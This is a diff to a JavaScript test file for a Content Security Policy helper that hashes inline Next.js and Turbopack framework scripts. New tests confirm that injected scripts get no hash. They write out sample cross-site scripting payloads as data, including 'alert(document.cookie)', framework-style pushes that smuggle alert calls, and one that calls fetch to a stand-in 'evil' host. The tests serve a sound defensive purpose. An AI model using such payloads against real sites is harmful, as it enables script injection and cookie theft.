@@ -12,12 +12,31 @@ describe("inline script policy", () => {
     '<script type="application/ld+json">{"@type":"Dataset"}</script>' +
     "<script>(self.__next_f=self.__next_f||[]).push([0])</script></body></html>";
 
-  it("hashes each distinct inline script over its UTF-8 bytes, not scripts loaded by src", () => {
+  it("hashes each distinct framework script over its UTF-8 bytes; not scripts loaded by src, nor data blocks", () => {
     expect(inlineScriptHashes(page)).toEqual([
       sha("(self.__next_f=self.__next_f||[]).push([0])"),
       sha('self.__next_f.push([1,"caf\\u00e9 \u2212 41%"])'),
-      sha('{"@type":"Dataset"}'),
     ]);
+  });
+
+  it("hashes Turbopack's chunk list", () => {
+    const turbopack =
+      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[494553]});';
+    expect(inlineScriptHashes(`<script id="_R_">${turbopack}</script>`)).toEqual([sha(turbopack)]);
+  });
+
+  it("gives no hash to a script that is not the framework's, even one dressed as it", () => {
+    const injected = [
+      "alert(document.cookie)",
+      'self.__next_f.push([1,"x"]);alert(1);self.__next_f.push([1])',
+      "self.__next_f.push(alert(1))",
+      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push(fetch("//evil"));',
+    ];
+    for (const text of injected) expect(inlineScriptHashes(`<script>${text}</script>`), text).toEqual([]);
+    // So a page carrying one allows only its own scripts.
+    const out = withInlineScriptPolicy(page.replace("<body>", "<body><script>alert(document.cookie)</script>"));
+    expect(out).not.toContain(sha("alert(document.cookie)"));
+    expect(out).toContain(sha("(self.__next_f=self.__next_f||[]).push([0])"));
   });
 
   it("puts the policy at the start of <head>, after its charset, before any script", () => {
